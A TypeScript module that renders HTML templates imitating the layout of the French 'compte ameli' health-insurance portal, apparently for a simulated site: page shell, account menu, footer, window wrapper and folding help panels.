import { ADDRESSES, portalPage } from '../addresses';
import { html, type Markup } from '../html';
import { page } from '../responses';
import type { SiteResponse } from '../types';

const AT = ADDRESSES.portal;

interface Layout {
  /** The page's label, which the portal also gives its `main` as an id. */
  label: string;
  title: string;
  signedInAs?: string;
  content: Markup;
}

function signedInBar(name: string): Markup {
  return html`<nav class="menu-compte" aria-label="Menu du compte"><ul>
<li><a href="${AT.signedIn}">Accueil</a></li>
<li><a href="${AT.payments}">Mes paiements</a></li>
<li><a href="${AT.personalData}">Mes informations</a></li>
</ul><p class="identite"><span class="qui">${name}</span>
<a id="lienDeconnexionId" href="${AT.signedOut}" title="Déconnexion du compte ameli">Déconnexion</a></p></nav>`;
}

export function portalDocument({ label, title, signedInAs, content }: Layout): SiteResponse {
  return page(html`<html lang="fr"><head><meta charset="utf-8">
<title>Votre compte ameli - ${title}</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<link rel="stylesheet" href="/PortailAS/framework/skins/compteas/css/compteas.css">
<script src="/PortailAS/framework/skins/compteas/js/compteas.js" defer></script></head>
<body class="wlp-bighorn-desktop">
<div class="liens-evitement"><a href="#contenu">Aller au contenu</a></div>
<div class="wlp-bighorn-shell">
<header class="wlp-bighorn-header" role="banner"><div class="tetiere-connexion">
<a class="nom-site" href="${AT.home}" title="Accéder à l'accueil du site">compte <strong>ameli</strong></a>
<p class="accroche">Mes démarches d'assurance maladie en ligne</p>
</div>${signedInAs && signedInBar(signedInAs)}</header>
<div class="wlp-bighorn-book"><div class="wlp-bighorn-book-content">
<main id="${label}" class="${signedInAs ? 'wlp-bighorn-page' : 'wlp-bighorn-page-unconnect'}" role="main">
<section id="contenu">${content}</section></main>
</div></div>
<footer class="wlp-bighorn-footer" role="contentinfo"><ul>
<li><a href="${AT.accessibility}">Accessibilité : partiellement conforme</a></li>
<li><a href="${AT.termsInDetail}">Conditions d'utilisation</a></li>
<li><a href="${portalPage('as_mentions_legales_page')}">Mentions légales</a></li>
<li><a href="${AT.article}">Aide</a></li>
</ul></footer></div></body></html>`);
}

/** A window of the portal, with its title bar. */
export function bighornWindow(id: string, content: Markup): Markup {
  return html`<div id="${id}" class="wlp-bighorn-window"><div class="wlp-bighorn-window-content">
${content}</div></div>`;
}

/** A help panel folded away by the script, as MooTools slides do: there, but without height. */
export function help(id: string, question: string, answer: Markup): Markup {
  return html`<p class="bulle-aide"><a id="${id}" class="lien-aide" tabindex="0" role="button" aria-expanded="false"
aria-controls="${id}Panneau">${question}</a></p>
<div style="margin:0;overflow:hidden;height:0px;visibility:hidden" id="${id}Panneau" class="glissiere">
<div class="panneau-aide">${answer}<p><a class="fermer" tabindex="0" role="button">Fermer</a></p></div></div>`;
}
